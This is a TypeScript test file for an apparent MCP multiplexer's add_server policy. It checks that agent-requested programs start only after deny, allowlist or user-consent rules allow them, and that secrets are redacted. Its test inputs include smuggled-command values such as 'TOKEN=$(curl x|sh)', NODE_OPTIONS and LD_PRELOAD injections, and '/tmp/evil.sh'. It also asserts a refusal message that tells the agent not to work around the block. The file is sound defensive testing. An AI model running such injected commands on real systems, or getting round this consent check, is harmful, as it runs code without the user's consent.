import { tmpdir } from 'node:os';

import { describe, expect, it } from 'vitest';

import type { ElicitAnswer } from '../../client/asks/server-requests.js';
import { FakeSpawner } from '../../testing/fake-server.js';
import { OwnToolsRig, type ToolResult } from '../../testing/own-tools-rig.js';
import { quoteIfUnclear } from '../journal/audit.js';
import type { AddPolicy } from './add-policy.js';

const NODE = process.execPath;
const FOLDER = tmpdir();

interface Attempted {
  readonly text: string;
  readonly isError: boolean;
  readonly asked: readonly string[];
  readonly started: number;
}

/** An agent that calls add_server once. Without an answer of the user, its client cannot ask. */
async function attempt(policy: AddPolicy, args: object = {}, answer?: ElicitAnswer): Promise<Attempted> {
  await using rig = new OwnToolsRig(new FakeSpawner(), policy);
  rig.userAnswers = answer;
  const result: ToolResult = await rig.result('add_server', { name: 'a', command: NODE, ...args });
  return {
    text: result.content[0]?.text ?? '',
    isError: result.isError === true,
    asked: rig.asked,
    started: rig.spawner.servers.length,
  };
}

const ASK: AddPolicy = { mode: 'ask' };
const accept: ElicitAnswer = { result: { action: 'accept', content: {} } };

describe('add_server under a policy', () => {
  it.each([
    [{ mode: 'deny' } as const, 'rule: deny'],
    [{ mode: 'allowlist', commands: [{ command: 'npx', args: ['x'] }] } as const, 'rule: allowlist'],
    [ASK, 'has not declared the capability elicitation (rule: ask)'],
  ])('E11: %j starts nothing, and says by which rule and what to do', async (policy, why) => {
    const { text, isError, started } = await attempt(policy);
    expect({ isError, started }).toEqual({ isError: true, started: 0 });
    expect(text).toContain('Server "a" was not added: ');
    expect(text).toContain(why);
    expect(text).toContain(
      'Do not work around this refusal. Tell the user: the operator of mcpmux can allow it',
    );
  });

  it('E11: an allowlist lets its commands through', async () => {
    const { isError, started } = await attempt({ mode: 'allowlist', commands: [{ command: NODE }] });
    expect({ isError, started }).toEqual({ isError: false, started: 1 });
  });

  it('E11: ask shows the whole command, the variables and the directory, and no secret', async () => {
    const args = {
      args: ['-e', 'a b\u202e', '--token', 'canary-1', 'canary-2'],
      env: { KEY: 'canary-2', MODE: 'x' },
      cwd: FOLDER,
    };
    const { asked, started } = await attempt(ASK, args, accept);
    expect(started).toBe(1);
    expect(asked.join('\n').split('\n')).toEqual([
      'mcpmux: the agent wants to start a program on this computer, as MCP server "a":',
      String.raw`${quoteIfUnclear(NODE)} -e "a b\u{202e}" --token [redacted] [redacted]`,
      'Environment variables that it sets: KEY=[redacted], MODE=x',
      'Environment that it inherits: the whole environment of mcpmux',
      `Working directory: ${FOLDER}`,
      'Hidden as [redacted], because they look like secrets: 2',
      'Accept to let it run with your rights.',
    ]);
  });

  it.each([
    [{ NODE_OPTIONS: '--import data:text/javascript,x' }, 'NODE_OPTIONS=--import data:text/javascript,x'],
    [{ LD_PRELOAD: '/tmp/x.so' }, 'LD_PRELOAD=/tmp/x.so'],
    [{ API_TOKEN: '/tmp/x.so' }, 'API_TOKEN=/tmp/x.so'],
  ])('E11: ask shows the value of a variable that may decide what runs: %j', async (env, shown) => {
    const { asked } = await attempt(ASK, { env }, accept);
    expect(asked.join('\n')).toContain(shown);
  });

  it('E11: ask refuses variables that are too long to be checked', async () => {
    const { text, asked } = await attempt(ASK, { env: { MODE: 'x'.repeat(9000) } }, accept);
    expect(asked).toEqual([]);
    expect(text).toContain('more than a user can check');
  });

  it.each([
    ['TOKEN=$(curl x|sh)'],
    ['token:exec"touch\\x20\\x2ftmp"'],
    ["token:exec'x'"],
    ['password={x}'],
    ['password=%x%'],
    ['password=[x]'],
    ['token=x*'],
    ['token=/tmp/x'],
    ['token=C:/x'],
  ])('E11: ask refuses %j: what it would hide may be more than a secret', async (arg) => {
    const refused = await attempt(ASK, { args: ['-e', arg] }, accept);
    expect(refused).toMatchObject({ asked: [], started: 0, isError: true });
    const { started } = await attempt(ASK, { args: ['--token', 'abcdef'] }, accept);
    expect(started).toBe(1);
  });

  it.each([
    [{ result: { action: 'decline' } }, 'the user declined it'],
    [{ result: { action: 'cancel' } }, 'the user gave no answer'],
    [{ result: {} }, 'the user gave no answer'],
    [{ result: { action: ['accept'] } }, 'the user gave no answer'],
    [{ problem: 'the client has gone' }, 'the user could not be asked: the client has gone'],
  ])('E11: ask starts nothing unless the user accepts: %j', async (answer, why) => {
    const { text, isError, started } = await attempt(ASK, {}, answer);
    expect({ isError, started }).toEqual({ isError: true, started: 0 });
    expect(text).toContain(`${why} (rule: ask)`);
  });

  it('E11: ask refuses a command that is too long to be checked', async () => {
    const { text, asked, started } = await attempt(ASK, { args: ['x'.repeat(9000)] }, accept);
    expect({ asked, started }).toEqual({ asked: [], started: 0 });
    expect(text).toContain('more than a user can check');
  });

  it('E11: nobody is asked about a name that cannot be had', async () => {
    const { text, asked } = await attempt(ASK, { name: 'a__b' }, accept);
    expect(asked).toEqual([]);
    expect(text).toContain('holds "__"');
  });

  it('E11: whatever is in env, the program and what may be more than a secret are shown', async () => {
    const script = 'touch /tmp/x | cat';
    const env = { A: script, TOKEN: '/tmp/evil.sh' };
    const { asked } = await attempt(ASK, { args: ['-c', script, '/tmp/evil.sh'], env }, accept);
    expect(asked.join()).toContain(`${quoteIfUnclear(NODE)} -c "${script}" /tmp/evil.sh`);
  });

  it('G10: arguments and variables of more than 64 KiB are refused before anything is looked for in them', async () => {
    const { text, isError, started } = await attempt({ mode: 'deny' }, { args: ['-eyJ'.repeat(20_000)] });
    expect({ isError, started }).toEqual({ isError: true, started: 0 });
    expect(text).toContain('add_server accepts at most 65536');
  });

  it('E11: a call that is cancelled while the user is asked starts nothing', async () => {
    await using rig = new OwnToolsRig(new FakeSpawner(), ASK);
    const abort = new AbortController();
    rig.userAnswers = accept;
    rig.onAsked = () => abort.abort();
    const result = await rig.result('add_server', { name: 'a', command: NODE }, abort.signal);
    expect(result).toMatchObject({ isError: true });
    expect(rig.spawner.servers).toEqual([]);
    expect(rig.audited).toMatchObject([{ action: 'add', outcome: 'failed', rule: 'cancelled' }]);
  });
});
